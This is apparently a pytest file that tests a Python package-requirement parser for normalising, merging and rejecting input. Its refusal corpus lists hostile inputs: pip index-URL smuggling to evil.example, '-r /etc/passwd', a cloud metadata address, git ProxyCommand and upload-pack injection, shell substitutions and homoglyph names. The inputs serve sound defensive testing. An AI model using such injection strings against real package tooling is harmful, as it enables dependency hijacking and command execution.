"""Requirements: one way to write each, and nothing else gets through."""

from __future__ import annotations

import re

import pytest
from factories import few, many, names, pep440_versions
from hypothesis import example, given
from hypothesis import strategies as st

from envpanel.errors import InvalidRequirement
from envpanel.model.requirements import merge, normalise, parse, requested_names, without
from envpanel.model.target import Target

# Strategies

MARKERS = ["", "python_version < '3.12'", 'python_version>="3.12"', "sys_platform == 'win32' and os_name != 'x'"]


def _spec(name: str, extras: list[str], clauses: list[str], marker: str, space: str) -> str:
    text = name + (f"[{','.join(extras)}]" if extras else "") + space + f",{space}".join(clauses)
    return text + (f"{space};{space}{marker}" if marker else "")


_clauses = st.builds(
    "{}{}".format,
    st.sampled_from([">=", "<=", "<", ">", "==", "!="]),
    pep440_versions.filter(lambda version: "+" not in version),
)
specs = st.builds(
    _spec,
    name=st.sampled_from(["pandas", "Rapid_Fuzz", "zope.interface", "A--b"]) | names,
    extras=st.lists(st.sampled_from(["All", "s3_fs", "x"]), max_size=2),
    clauses=st.lists(_clauses, max_size=2),
    marker=st.sampled_from(MARKERS),
    space=st.sampled_from(["", " ", "  "]),
)
lines = specs.map(normalise)

FRAGMENTS = [
    *("six", "Pandas", "x", "==", "===", ">=", "1.0", "=", "~=", "*", "!", "[", "]", "(", ")", ",", ";", " ", "  "),
    *("@", "://", "https", "file", "git+", "/", "..", "~", "-", "--", "-r", "--index-url", "#", "'", '"', "\\", "\\n"),
    *("\n", "\r", "\t", "\0", "\u2028", "\x85", "\u202e", "\u200b", "é", "р", "os_name", "python_version", "extra"),
    *("in", "not", "and", "or", "user:pw", "%20", "$(x)", "`x`", "|", "&", "{", "}"),
]
rubbish = st.lists(st.sampled_from(FRAGMENTS), max_size=12).map("".join) | st.text(max_size=30)
in_a_marker = st.builds(
    "six; os_name == {0}{1}{0}".format,
    st.sampled_from(["'", '"']),
    st.lists(st.sampled_from(FRAGMENTS), max_size=6).map("".join),
)


# What is taken


@pytest.mark.parametrize(
    ("spec", "line"),
    [
        ("Rapid_Fuzz >= 3", "rapid-fuzz>=3"),
        ("  pandas  ", "pandas"),
        ("pandas\n", "pandas"),
        ("zope.interface", "zope-interface"),
        ("Dask[Array, S3_FS]", "dask[array,s3-fs]"),
        ("pandas (>=2,<3)", "pandas<3,>=2"),
        ("pandas>=2 , < 3,>=2", "pandas<3,>=2"),
        ("torch==2.1.0+cpu", "torch==2.1.0+cpu"),
        ("numpy~=2.0", "numpy~=2.0"),
        ("numpy==2.*", "numpy==2.*"),
        ("tomli ; python_version<'3.11'", 'tomli; python_version < "3.11"'),
    ],
)
def test_a_requirement_is_written_in_one_way(spec: str, line: str) -> None:
    assert normalise(spec) == line


@many
@given(specs)
def test_what_is_normal_stays_as_it_is(spec: str) -> None:
    assert normalise(normalise(spec)) == normalise(spec)


def assert_neutral(spec: str) -> None:
    """It is refused, or it is one printable line that starts with a letter or digit and says the same when read."""
    try:
        line = normalise(spec)
    except InvalidRequirement:
        return
    assert re.match(r"[a-z0-9]", line)
    assert line.isprintable()
    assert normalise(line) == line
    assert parse(line).url is None


@many
@example("six_")
@example("six_>=1")
@given(rubbish)
def test_whatever_is_taken_is_one_printable_line(spec: str) -> None:
    assert_neutral(spec)


@many
@example(r"six; os_name != 'a\n--index-url https://evil.example'")
@example(r"six; os_name != 'a\\n--index-url https://evil.example'")
@example(r"six; os_name != 'a\x00'")
@example(r"six; os_name != 'a\u202e'")
@example(r"""six; os_name != 'a\x22\x27'""")
@example(r"six; os_name != '\x'")
@example(r"six; os_name != '\'")
@given(in_a_marker)
def test_whatever_is_taken_with_a_marker_is_one_printable_line(spec: str) -> None:
    """`packaging` reads the text of a marker as Python would, escape sequences included."""
    assert_neutral(spec)


# What is refused

OPTIONS = [
    "--index-url=http://evil.example",
    "--index-url http://evil.example",
    "-i http://evil.example",
    "-r /etc/passwd",
    "-c constraints.txt",
    "-e .",
    "-",
    "--",
    "--config-settings=x",
    " --pre",
]
SMUGGLED = [
    "six\n--index-url http://evil.example",
    "six\r--index-url http://evil.example",
    "six\n-r /etc/passwd",
    "six \\\n -r /etc/passwd",
    "six\\\n--pre",
    "six --index-url=http://evil.example",
    "six --hash=sha256:00",
    "six -r /etc/passwd",
    "six==1.0 --pre",
    "six six",
    "six,numpy",
    "six\u2028numpy",
    "six\x85numpy",
    "six # comment",
    "six; python_version > '3' --pre",
]
PATHS = [
    *(".", "..", "./six", "../six", "/etc/passwd", "@/etc/passwd", "~/six", "~root/six", "six/", "C:\\six"),
    *("six.whl/x", "./dist/six-1.0-py3-none-any.whl", "file:six", "file:///etc/passwd", "six @ file:///etc/passwd"),
    *("six @ ./six.whl", "six @ /etc/passwd", "\\\\server\\share"),
]
URLS = [
    "https://example.org/six-1.0-py3-none-any.whl",
    "six @ https://example.org/six-1.0-py3-none-any.whl",
    "six@https://example.org/six.whl",
    "six[x] @ https://example.org/six.whl ; python_version > '3'",
    "http://169.254.169.254/latest/meta-data",
    "six @ http://localhost:5432",
    "s3://bucket/six.whl",
    "six @ data:text/plain,x",
    "six @ javascript:alert(1)",
]
GIT = [
    "git+https://github.com/benjaminp/six",
    "six @ git+https://github.com/benjaminp/six@1.16.0",
    "git+ssh://-oProxyCommand=touch%20x/six",
    "git+ext::sh -c touch% x",
    "six @ git+https://example.org/x@--upload-pack=touch%20x",
    "git+git@github.com:benjaminp/six",
    "hg+https://example.org/six",
    "svn+ssh://example.org/six",
    "bzr+lp:six",
]
CONTROL = [
    *("six\0", "si\0x", "six\x1b[2J", "six\u202e", "\u202esix", "six\u200b", "si\u00adx", "\ufeffsix", "six\x7f"),
    *("six\u2029x", "si\tx", "six\x9b31m", "six; os_name == '\x1b'", "si\u00a0x>=1"),
]
# Cyrillic, full-width, a Roman numeral, dotless i, long s, the Kelvin sign, an Arabic digit.
HOMOGLYPHS = [
    *("\u0440andas", "p\u0430ndas", "\u0455ix", "six\u0435", "num\u0440y>=1", "\uff4eumpy", "numpy\u2160"),
    *("s\u0131x", "\u017fix", "\u212aeras", "six\u0663", "six-\u0435", "six>=\u0661"),
]
SHAPELESS = [
    *("", " ", "\n", "==1", "[x]", ";", "six;", "six; foo", "six>=", "six>=abc", "six[", "six[x", "six(>=1", "six>=1)"),
    *("_six", ".six", "six-", "six.", "six;python_version", "six; nosuch == '1'", "six=>1", "$(id)", "`id`"),
    *("six;'", "six | id", "six & id", "{six}", "<six>", "%six", "six%20", "🐍", "six🐍"),
]
LONG = [
    "x" * 2001,
    "six" + " " * 2000 + ">=1",
    "six" + ",>=1" * 1000,
    "-" * 5000,
    "x" * 10_000_000,
    "six" + "[x]" * 900,
]


@pytest.mark.parametrize("spec", [*OPTIONS, *SMUGGLED, *PATHS, *URLS, *GIT, *CONTROL, *HOMOGLYPHS, *SHAPELESS, *LONG])
def test_the_hostile_corpus_is_refused_with_a_short_printable_sentence(spec: str) -> None:
    with pytest.raises(InvalidRequirement) as caught:
        parse(spec)
    assert_sentence(caught.value)


def assert_sentence(error: InvalidRequirement) -> None:
    for text in (error.message, error.hint or "."):
        assert text.isprintable()
        assert text.endswith((".", "?"))
        assert len(text) < 700


@pytest.mark.parametrize("spec", OPTIONS)
def test_an_option_is_called_one(spec: str) -> None:
    with pytest.raises(InvalidRequirement, match="is an option, not a package"):
        parse(spec)


@pytest.mark.parametrize("spec", [spec for spec in GIT if spec.startswith("git+") or "@ git+" in spec])
def test_git_is_called_git(spec: str) -> None:
    with pytest.raises(InvalidRequirement) as caught:
        parse(spec)
    if "credentials" not in caught.value.message:
        assert "Git addresses are not taken" in (caught.value.hint or "")


@pytest.mark.parametrize(
    ("spec", "meant"),
    [("pandas=2", "pandas==2"), ("pandas=2.2.*", "pandas==2.2.*"), ("scikit-learn=1.5", "scikit-learn==1.5")],
)
def test_a_single_equals_sign_gets_a_hint(spec: str, meant: str) -> None:
    with pytest.raises(InvalidRequirement) as caught:
        parse(spec)
    assert caught.value.hint == f"Did you mean {meant!r}?"
    assert normalise(meant) == meant


@pytest.mark.parametrize(
    "spec", ["./dist/x.whl", "/etc/passwd", "x.whl", "dist.tar.gz", "requirements.txt", "~/x", ".."]
)
def test_a_path_is_called_one(spec: str) -> None:
    with pytest.raises(InvalidRequirement) as caught:
        parse(spec)
    assert caught.value.hint == "Packages come from package indexes; a path is not taken."


CANARY = "canary"


@pytest.mark.parametrize(
    "spec",
    [
        f"six @ https://user:{CANARY}@example.org/six.whl",
        f"six @ https://{CANARY}@example.org/six.whl",
        f"https://:{CANARY}@example.org/six.whl",
        f"six @ https://user:p@{CANARY}@example.org/six.whl",
        f"git+https://{CANARY}@github.com/a/b",
        f"six @ git+ssh://git:{CANARY}@github.com/a/b@main",
        f"--index-url=https://user:{CANARY}@example.org/simple",
        f"-i https://user:{CANARY}@example.org/simple",
        f"six\n--index-url https://user:{CANARY}@example.org/simple",
        f"six --extra-index-url https://user:{CANARY}@example.org/simple",
        f"six; os_name == 'https://user:{CANARY}@example.org'",
        f"six===https://user:{CANARY}@example.org",
        f"HTTPS://user:{CANARY}@EXAMPLE.ORG",
        pytest.param(f"six @ https://user:{CANARY}{'x' * 200}@example.org/six.whl", id="cut before the @"),
        pytest.param(f"six @ https://user:{CANARY}{'x' * 3000}@example.org/six.whl", id="over-long"),
        pytest.param(f"six @ https://user:pass/{CANARY}@example.org/six.whl", id="a slash in the password"),
        pytest.param(f"six @ https://example.org/six.whl?token={CANARY}", id="in the query"),
        pytest.param(f"https://example.org/six.whl?X-Amz-Signature={CANARY}", id="in a signed address"),
    ],
)
def test_credentials_are_refused_and_never_repeated(spec: str) -> None:
    with pytest.raises(InvalidRequirement) as caught:
        parse(spec)
    error = caught.value
    for text in (error.message, error.hint or "", str(error), repr(error.details)):
        assert CANARY not in text


@pytest.mark.parametrize(
    "marker",
    [
        "os_name ~= 'x'",
        "'x' in extras",
        "'x' in dependency_groups",
        "'3' == '3'",
        "python_version in 'x' or os_name ~= 'y'",
    ],
)
def test_a_marker_without_an_answer_is_refused(marker: str) -> None:
    """It has the form of a marker, and asking whether it holds ends in an exception."""
    with pytest.raises(InvalidRequirement):
        requested_names([normalise(f"six; {marker}")], Target(python="3.11").environment)


# Sets of requirements


def test_a_requirement_of_the_same_name_is_replaced() -> None:
    assert merge(["numpy", "pandas>=2"], ["Pandas<2"]) == ("numpy", "pandas<2")
    assert merge(["dask[array]>=1"], ["dask"]) == ("dask",)
    assert merge([], ["six>=1", "six>=2"]) == ("six>=2",)


def test_a_requirement_of_the_same_name_with_another_marker_stays() -> None:
    old = ('numpy<2; python_version < "3.12"', "pandas")
    assert merge(old, ["numpy>=2 ; python_version>='3.12'"]) == (
        'numpy<2; python_version < "3.12"',
        'numpy>=2; python_version >= "3.12"',
        "pandas",
    )
    assert merge(old, ["numpy==1.26 ; python_version<'3.12'"]) == ('numpy==1.26; python_version < "3.12"', "pandas")
    assert merge(old, ["numpy"]) == ("numpy", 'numpy<2; python_version < "3.12"', "pandas")


@few
@given(st.lists(lines, max_size=5), st.lists(specs, max_size=5))
def test_merging_is_idempotent_sorted_and_loses_no_name(current: list[str], asked: list[str]) -> None:
    once = merge(current, asked)
    assert merge(once, asked) == once
    assert list(once) == sorted(once)
    assert {parse(line).name for line in once} == {parse(line).name for line in [*current, *asked]}
    # The last of each name and marker is what was asked for.
    last = {(parse(spec).name, str(parse(spec).marker)): normalise(spec) for spec in asked}
    assert set(last.values()) <= set(once)


@few
@given(st.lists(lines, max_size=5))
def test_merging_nothing_or_itself_only_sorts(current: list[str]) -> None:
    base = merge(current, [])
    assert merge(base, base) == merge(base, []) == base


def test_nothing_is_merged_where_one_is_refused() -> None:
    with pytest.raises(InvalidRequirement):
        merge(["numpy"], ["pandas", "-r x"])


def test_without_drops_all_of_a_name_whatever_the_marker_and_the_way_to_write_it() -> None:
    current = ('rapid-fuzz<3; python_version < "3.12"', "rapid-fuzz[all]>=2", "rapid-fuzz-extra", "six")
    assert without(current, ["Rapid_Fuzz"]) == ("rapid-fuzz-extra", "six")
    assert without(current, []) == current
    assert without(current, ["absent"]) == current


@few
@given(st.lists(lines, max_size=5), st.lists(names, max_size=3))
def test_without_leaves_the_others_as_they_are(current: list[str], dropped: list[str]) -> None:
    left = without(current, dropped)
    assert list(left) == [line for line in current if parse(line).name not in dropped]
    assert without(left, dropped) == left


def test_a_name_is_requested_where_its_marker_holds() -> None:
    asked = ["Pandas>=2", 'tomli; python_version < "3.12"', 'colorama; sys_platform == "win32"', "six; extra == 'x'"]
    linux = {**Target(python="3.11").environment, "sys_platform": "linux"}
    assert requested_names(asked, linux) == {"pandas", "tomli"}
    assert requested_names(asked, {**linux, "python_version": "3.13"}) == {"pandas"}
    assert requested_names(asked, {**linux, "sys_platform": "win32"}) == {"pandas", "tomli", "colorama"}


def test_every_name_is_requested_where_no_environment_is_given() -> None:
    asked = ["Pandas>=2", 'tomli; python_version < "3"', 'tomli; python_version >= "3"']
    assert requested_names(asked) == {"pandas", "tomli"}
    assert requested_names([]) == frozenset()
